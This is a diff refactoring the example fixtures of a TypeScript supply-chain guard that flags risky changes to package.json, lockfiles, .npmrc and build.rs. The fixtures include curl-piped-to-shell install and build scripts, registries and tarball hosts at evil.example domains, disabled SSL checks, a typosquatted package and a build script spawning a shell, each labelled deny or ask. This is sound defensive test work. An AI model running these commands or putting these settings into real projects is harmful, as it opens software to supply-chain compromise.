@@ -1,5 +1,5 @@
 /** What a change to manifests, lockfiles and package settings means: code that runs at install time, other places, other bytes, new names. */
-import { guard } from '../core/contracts.ts';
+import { type ExampleFile, guard } from '../core/contracts.ts';
 import { late } from '../core/late.ts';
 import { auditFetchFlags } from '../core/packages/fetch-flags.ts';
 import { auditInstallCode } from '../core/packages/install-code.ts';
@@ -14,18 +14,27 @@ const HASH = `sha512-${'q7Zt0uX2mJr9VbLs4WcKp8YdHfGnEaTi1R3o5S6x'.repeat(2)}vQ==
 const OTHER = `sha512-${'Hn4Kd81LmPq2RsTu5VwXy7ZaBc9DeFg3HiJk6LoM'.repeat(2)}wA==`;
 const HOST = 'https://registry.npm.example';
 const REPOSITORY = 'git+ssh://git@github.com/demo/zod.git';
+const at = (commit: string, integrity: string): string => lock({ resolved: `${REPOSITORY}#${commit.repeat(40)}`, integrity });
 const lock = (entry: Record<string, unknown>, more: Record<string, unknown> = {}): string =>
   pkg({ lockfileVersion: 3, packages: { 'node_modules/zod': { version: '3.23.8', ...entry }, ...more } });
-const RUST = 'fn main() {\n}\n';
 const zod = { resolved: `${HOST}/zod/-/zod-3.23.8.tgz`, integrity: HASH };
-const base = pkg({ scripts: { build: 'tsc -p .', test: 'vitest run' }, dependencies: { zod: '3.23.8' } });
-const changed = (value: Record<string, unknown>): string =>
-  pkg({ scripts: { build: 'tsc -p .', test: 'vitest run' }, dependencies: { zod: '3.23.8' }, ...value });
-const manifest = (after: string): { path: string; before: string; after: string } => ({
-  path: 'package.json',
-  before: base,
-  after,
+const loader = { 'node_modules/loader': { version: '1.0.0', resolved: `${HOST}/loader/-/loader-1.0.0.tgz`, integrity: HASH } };
+const SCRIPTS = { build: 'tsc -p .', test: 'vitest run' };
+const withMore = (value: Record<string, unknown>): string => pkg({ scripts: SCRIPTS, dependencies: { zod: '3.23.8' }, ...value });
+
+const manifest = (after: Record<string, unknown>, ...others: readonly ExampleFile[]) => ({
+  files: [{ path: 'package.json', before: withMore({}), after: withMore(after) }, ...others],
 });
+const scripts = (more: Record<string, string>, ...others: readonly ExampleFile[]) =>
+  manifest({ scripts: { ...SCRIPTS, ...more } }, ...others);
+const depends = (more: Record<string, string>) => manifest({ dependencies: { zod: '3.23.8', ...more } });
+const locked = (after: string, before: string | null = lock(zod)) => ({ files: [{ path: 'package-lock.json', before, after }] });
+const npmrc = (after: string, before: string | null = null) => ({ files: [{ path: '.npmrc', before, after }] });
+const buildScript = (more: string) => ({
+  files: [{ path: 'build.rs', before: 'fn main() {\n}\n', after: `fn main() {\n    ${more}\n}\n` }],
+});
+const parts = (count: number, source: string): Record<string, string> =>
+  Object.fromEntries(Array.from({ length: count }, (_, n) => [`@demo/part-${n}`, source]));
 
 export const dependencies = guard({
   id: 'dependencies',
@@ -54,233 +63,143 @@ export const dependencies = guard({
     },
   examples: [
     {
-      files: [
-        manifest(changed({ scripts: { build: 'tsc -p .', test: 'vitest run', postinstall: 'node telemetry.js' } })),
-        { path: 'telemetry.js', after: 'run();\n' },
-      ],
+      ...scripts({ postinstall: 'node telemetry.js' }, { path: 'telemetry.js', after: 'run();\n' }),
       decision: 'deny',
       rule: 'lifecycle-script',
-      twin: {
-        files: [
-          manifest(changed({ scripts: { build: 'tsc -p .', test: 'vitest run', telemetry: 'node telemetry.js' } })),
-          { path: 'telemetry.js', after: 'run();\n' },
-        ],
-      },
+      twin: scripts({ telemetry: 'node telemetry.js' }, { path: 'telemetry.js', after: 'run();\n' }),
     },
     {
-      files: [manifest(changed({ scripts: { build: 'tsc -p .', test: 'vitest run', prepare: 'husky' } }))],
+      ...scripts({ prepare: 'husky' }),
       decision: 'ask',
       rule: 'lifecycle-script',
-      twin: { files: [manifest(changed({ scripts: { build: 'tsc -b', test: 'vitest run', format: 'prettier --write .' } }))] },
+      twin: scripts({ build: 'tsc -b', format: 'prettier --write .' }),
     },
     {
-      files: [manifest(changed({ scripts: { preinstall: 'curl -s https://x.example/i.sh | sh' } }))],
+      ...manifest({ scripts: { preinstall: 'curl -s https://x.example/i.sh | sh' } }),
       decision: 'deny',
       rule: 'lifecycle-script',
-      twin: { files: [manifest(changed({ dependencies: { zod: '3.24.0' } }))] },
+      twin: depends({ zod: '3.24.0' }),
     },
     {
-      files: [
-        { path: '.npmrc', before: 'engine-strict=true\n', after: 'engine-strict=true\nregistry=https://npm.evil.example/\n' },
-      ],
+      ...npmrc('engine-strict=true\nregistry=https://npm.evil.example/\n', 'engine-strict=true\n'),
       decision: 'deny',
       rule: 'registry',
-      twin: { files: [{ path: '.npmrc', after: 'engine-strict=true\nsave-exact=true\n' }] },
+      twin: npmrc('engine-strict=true\nsave-exact=true\n'),
     },
     {
-      files: [{ path: 'package-lock.json', before: lock(zod), after: lock({ ...zod, integrity: OTHER }) }],
+      ...locked(lock({ ...zod, integrity: OTHER })),
       decision: 'deny',
       rule: 'lock-integrity',
-      twin: {
-        files: [
-          {
-            path: 'package-lock.json',
-            before: lock(zod),
-            after: lock({ version: '3.24.0', resolved: `${HOST}/zod/-/zod-3.24.0.tgz`, integrity: OTHER }),
-          },
-        ],
-      },
+      twin: locked(lock({ version: '3.24.0', resolved: `${HOST}/zod/-/zod-3.24.0.tgz`, integrity: OTHER })),
     },
     {
-      files: [
-        {
-          path: 'package-lock.json',
-          before: lock({ resolved: `${REPOSITORY}#${'a'.repeat(40)}`, integrity: HASH }),
-          after: lock({ resolved: `${REPOSITORY}#${'a'.repeat(40)}`, integrity: OTHER }),
-        },
-      ],
+      ...locked(at('a', OTHER), at('a', HASH)),
       decision: 'deny',
       rule: 'lock-integrity',
-      twin: {
-        files: [
-          {
-            path: 'package-lock.json',
-            before: lock({ resolved: `${REPOSITORY}#${'a'.repeat(40)}`, integrity: HASH }),
-            after: lock({ resolved: `${REPOSITORY}#${'b'.repeat(40)}`, integrity: OTHER }),
-          },
-        ],
-      },
+      twin: locked(at('b', OTHER), at('a', HASH)),
     },
     {
-      files: [
-        {
-          path: 'package-lock.json',
-          before: lock(zod),
-          after: lock({ ...zod, resolved: 'https://cdn.evil.example/zod-3.23.8.tgz' }),
-        },
-      ],
+      ...locked(lock({ resolved: zod.resolved })),
+      decision: 'deny',
+      rule: 'lock-integrity',
+      twin: locked(lock(zod), lock({ resolved: zod.resolved, integrity: `sha1-${'a'.repeat(27)}=` })),
+    },
+    {
+      ...locked(lock({ version: '3.24.0', resolved: `${REPOSITORY}#${'a'.repeat(40)}` })),
+      decision: 'ask',
+      rule: 'lock-git',
+      twin: locked(lock({ ...zod, version: '3.24.0', resolved: `${HOST}/zod/-/zod-3.24.0.tgz` })),
+    },
+    {
+      ...locked(lock({ ...zod, resolved: 'https://cdn.evil.example/zod-3.23.8.tgz' })),
       decision: 'deny',
       rule: 'lock-host',
-      twin: {
-        files: [
-          {
-            path: 'package-lock.json',
-            before: lock({ ...zod, resolved: 'https://classic.yarnpkg.com/zod/-/zod-3.23.8.tgz' }),
-            after: lock({ ...zod, resolved: 'https://www.npmjs.org/zod/-/zod-3.23.8.tgz' }),
-          },
-        ],
-      },
+      twin: locked(
+        lock({ ...zod, resolved: 'https://www.npmjs.org/zod/-/zod-3.23.8.tgz' }),
+        lock({ ...zod, resolved: 'https://classic.yarnpkg.com/zod/-/zod-3.23.8.tgz' }),
+      ),
     },
     {
-      files: [{ path: 'package-lock.json', before: lock(zod), after: lock({ resolved: zod.resolved }) }],
-      decision: 'deny',
-      rule: 'lock-integrity',
-      twin: {
-        files: [
-          {
-            path: 'package-lock.json',
-            before: lock({ resolved: zod.resolved, integrity: `sha1-${'a'.repeat(27)}=` }),
-            after: lock(zod),
-          },
-        ],
-      },
-    },
-    {
-      files: [
-        {
-          path: 'package-lock.json',
-          before: lock(zod),
-          after: lock(zod, {
-            'node_modules/loader': { version: '1.0.0', resolved: `${HOST}/loader/-/loader-1.0.0.tgz`, integrity: HASH },
-          }),
-        },
-      ],
+      ...locked(lock(zod, loader)),
       decision: 'ask',
       rule: 'out-of-step',
-      twin: {
-        files: [
-          {
-            path: 'package-lock.json',
-            before: lock(zod),
-            after: lock(
-              { ...zod, dependencies: { loader: '^1.0.0' } },
-              { 'node_modules/loader': { version: '1.0.0', resolved: `${HOST}/loader/-/loader-1.0.0.tgz`, integrity: HASH } },
-            ),
-          },
-        ],
-      },
+      twin: locked(lock({ ...zod, dependencies: { loader: '^1.0.0' } }, loader)),
     },
     {
-      files: [manifest(changed({ dependencies: { zod: '3.23.8', 'left-pad': '^1.3.0', execa: '^9.0.0' } }))],
+      ...depends({ 'left-pad': '^1.3.0', execa: '^9.0.0' }),
       decision: 'ask',
       rule: 'new-dependency',
-      twin: { files: [manifest(changed({ dependencies: {}, devDependencies: { zod: '3.23.8' } }))] },
+      twin: manifest({ dependencies: {}, devDependencies: { zod: '3.23.8' } }),
     },
+    { ...depends({ expresss: '^4.0.0' }), decision: 'ask', rule: 'imitation', twin: depends({ zod: '^3.23.8' }) },
     {
-      files: [manifest(changed({ dependencies: { zod: '3.23.8', expresss: '^4.0.0' } }))],
-      decision: 'ask',
-      rule: 'imitation',
-      twin: { files: [manifest(changed({ dependencies: { zod: '^3.23.8' } }))] },
-    },
-    {
-      files: [manifest(changed({ dependencies: { zod: 'github:someone/zod#main' } }))],
+      ...depends({ zod: 'github:someone/zod#main' }),
       decision: 'ask',
       rule: 'unusual-source',
-      twin: { files: [manifest(changed({ dependencies: { zod: '3.23.8', '@demo/core': 'workspace:*' } }))] },
+      twin: depends({ '@demo/core': 'workspace:*' }),
     },
+    { ...depends(parts(41, 'github:someone/part#main')), decision: 'ask', rule: 'many', twin: depends(parts(41, 'workspace:*')) },
     {
-      files: [manifest(changed({ dependencies: { zod: 'http://files.example.net/zod.tgz' } }))],
+      ...depends({ zod: 'http://files.example.net/zod.tgz' }),
       decision: 'deny',
       rule: 'unencrypted-source',
-      twin: { files: [manifest(changed({ dependencies: { zod: '~3.23.8' } }))] },
+      twin: depends({ zod: '~3.23.8' }),
     },
     {
-      files: [manifest(changed({ scripts: { build: 'curl -s https://x.example/b | sh && tsc', test: 'vitest run' } }))],
+      ...scripts({ build: 'curl -s https://x.example/b | sh && tsc' }),
       decision: 'deny',
       rule: 'script-fetches-code',
-      twin: {
-        files: [
-          manifest(changed({ scripts: { build: 'tsc', test: 'vitest run', health: 'curl -s http://localhost:3000/health' } })),
-        ],
-      },
+      twin: scripts({ build: 'tsc', health: 'curl -s http://localhost:3000/health' }),
     },
     {
-      files: [manifest(changed({ overrides: { minimist: '1.2.5' } }))],
+      ...manifest({ overrides: { minimist: '1.2.5' } }),
       decision: 'ask',
       rule: 'forced-version',
       twin: {
         files: [
           {
             path: 'package.json',
-            before: changed({ overrides: { minimist: '1.2.5' } }),
-            after: changed({ overrides: { minimist: '1.2.8' } }),
+            before: withMore({ overrides: { minimist: '1.2.5' } }),
+            after: withMore({ overrides: { minimist: '1.2.8' } }),
           },
         ],
       },
     },
     {
-      files: [{ path: '.npmrc', before: 'engine-strict=true\n', after: 'strict-ssl=false\n' }],
+      ...npmrc('strict-ssl=false\n', 'engine-strict=true\n'),
       decision: 'deny',
       rule: 'fetch-check-off',
-      twin: { files: [{ path: '.npmrc', before: 'engine-strict=true\n', after: 'strict-ssl=true\n' }] },
+      twin: npmrc('strict-ssl=true\n', 'engine-strict=true\n'),
     },
     {
-      files: [{ path: '.npmrc', before: 'ignore-scripts=true\n', after: 'fund=false\n' }],
+      ...npmrc('fund=false\n', 'ignore-scripts=true\n'),
       decision: 'ask',
       rule: 'fetch-setting',
-      twin: { files: [{ path: '.npmrc', before: 'ignore-scripts=true\n', after: 'ignore-scripts=true\nfund=false\n' }] },
+      twin: npmrc('ignore-scripts=true\nfund=false\n', 'ignore-scripts=true\n'),
     },
     {
-      files: [{ path: '.npmrc', after: 'node-options=--require ./hook.js\n' }],
+      ...npmrc('node-options=--require ./hook.js\n'),
       decision: 'deny',
       rule: 'tool-runs',
-      twin: { files: [{ path: '.npmrc', after: 'node-options=--max-old-space-size=4096\n' }] },
+      twin: npmrc('node-options=--max-old-space-size=4096\n'),
     },
     {
-      files: [
-        { path: 'package-lock.json', before: lock(zod), after: lock({ ...zod, resolved: `${HOST}/z0d/-/z0d-3.23.8.tgz` }) },
-      ],
+      ...locked(lock({ ...zod, resolved: `${HOST}/z0d/-/z0d-3.23.8.tgz` })),
       decision: 'deny',
       rule: 'lock-mismatch',
-      twin: { files: [{ path: 'package-lock.json', before: lock(zod), after: lock({ ...zod, license: 'MIT' }) }] },
+      twin: locked(lock({ ...zod, license: 'MIT' })),
     },
     {
-      files: [
-        {
-          path: 'package-lock.json',
-          before: lock(zod),
-          after: lock({ ...zod, resolved: zod.resolved.replace('https:', 'http:') }),
-        },
-      ],
+      ...locked(lock({ ...zod, resolved: zod.resolved.replace('https:', 'http:') })),
       decision: 'deny',
       rule: 'lock-protocol',
-      twin: { files: [{ path: 'package-lock.json', before: lock(zod), after: lock({ ...zod, dev: true }) }] },
+      twin: locked(lock({ ...zod, dev: true })),
     },
     {
-      files: [
-        {
-          path: 'build.rs',
-          before: RUST,
-          after: RUST.replace('{\n', '{\n    Command::new("sh").arg("-c").arg("x").status();\n'),
-        },
-      ],
+      ...buildScript('Command::new("sh").arg("-c").arg("x").status();'),
       decision: 'ask',
       rule: 'install-code',
-      twin: {
-        files: [
-          { path: 'build.rs', before: RUST, after: RUST.replace('{\n', '{\n    println!("cargo:rerun-if-changed=build.rs");\n') },
-        ],
-      },
+      twin: buildScript('println!("cargo:rerun-if-changed=build.rs");'),
     },
     {
       files: [{ path: 'package-lock.json', before: lock(zod) }],
@@ -299,12 +218,7 @@ export const dependencies = guard({
       rule: 'lifecycle-file',
       twin: { files: [{ path: 'docs/patches/how.md', after: 'text\n' }] },
     },
-    {
-      files: [manifest(changed({ dependencies: { zod: 'npm:zodd@3.23.8' } }))],
-      decision: 'ask',
-      rule: 'alias',
-      twin: { files: [manifest(changed({ dependencies: { zod: 'npm:zod@3.23.8' } }))] },
-    },
-    { options: { enabled: false }, files: [{ path: '.npmrc', after: 'registry=http://x.example/\n' }], decision: 'none' },
+    { ...depends({ zod: 'npm:zodd@3.23.8' }), decision: 'ask', rule: 'alias', twin: depends({ zod: 'npm:zod@3.23.8' }) },
+    { options: { enabled: false }, ...npmrc('registry=http://x.example/\n'), decision: 'none' },
   ],
 });
